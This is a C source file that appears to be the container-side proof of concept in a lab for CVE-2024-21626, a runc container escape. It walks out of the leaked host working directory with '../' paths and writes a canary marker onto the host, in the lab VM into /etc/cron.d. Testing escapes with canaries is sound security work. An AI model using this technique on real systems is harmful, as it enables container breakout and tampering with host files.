/*
 * CVE-2024-21626, the container's part: the image's WORKDIR is /proc/self/fd/7, so this process
 * (the container's init) starts with its working directory on the host, in the leaked directory.
 * From there it walks up with `..` (the host's /sys/fs/cgroup is three levels below the host's
 * root) and creates the marker on the host, as the real attack opens ../../../etc/... :
 *   /attack [TARGET]     TARGET relative to the working directory; default ../../../canary/bw-marker
 * In the lab VM run.sh passes ../../../etc/cron.d/bw-escape-<run> (the leaked directory is the
 * VM's /sys/fs/cgroup); on a developer's machine the leaked directory is $BW_WORK/sys/fs/cgroup,
 * so the default reaches $BW_WORK/canary.
 */
#define _GNU_SOURCE
#include "bwlab.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define DEFAULT_TARGET "../../../canary/bw-marker"
#define MARKER "BW-CANARY-CVE-2024-21626\n"

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  const char *target = argc > 1 ? argv[1] : DEFAULT_TARGET;
  const char *step = "create a file on the host through the working directory";
  /* The raw syscall: the kernel prefixes "(unreachable)" when the cwd is outside our root. */
  char wd[4096];
  if (syscall(SYS_getcwd, wd, sizeof wd) < 0) {
    bw_step("working directory of the container process", 0, errno, "getcwd");
    return 1;
  }
  bw_step("working directory of the container process", 1, 0, wd);
  char detail[8400];
  snprintf(detail, sizeof detail, "%s from %s", target, wd);
  int fd = open(target, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
  if (fd < 0) {
    bw_step(step, 0, errno, detail);
    return 1;
  }
  ssize_t w = write(fd, MARKER, strlen(MARKER));
  int e = errno;
  close(fd);
  if (w != (ssize_t)strlen(MARKER)) {
    bw_step(step, 0, w < 0 ? e : EIO, detail);
    return 1;
  }
  bw_step(step, 1, 0, detail);
  return 0;
}
